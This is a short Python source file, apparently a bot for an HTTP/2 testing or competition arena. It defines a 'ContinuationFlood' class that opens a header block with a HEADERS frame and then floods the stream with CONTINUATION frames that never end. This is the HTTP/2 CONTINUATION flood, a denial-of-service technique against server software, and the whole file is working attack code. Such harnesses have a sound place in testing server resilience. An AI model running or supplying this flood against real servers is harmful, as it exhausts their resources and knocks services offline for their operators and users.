"""Begins a block of headers that never ends: CONTINUATION frames without end."""

from rawhttp2 import CONTINUATION, END_STREAM, HEADERS, RawBot, fields, frame

from arenabot.v1 import player_pb2 as player


class ContinuationFlood(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.send(frame(HEADERS, flags=END_STREAM, stream=self.stream))
        self.flood(frame(CONTINUATION, fields(("x-more", "and more")), stream=self.stream))


if __name__ == "__main__":
    ContinuationFlood().serve()
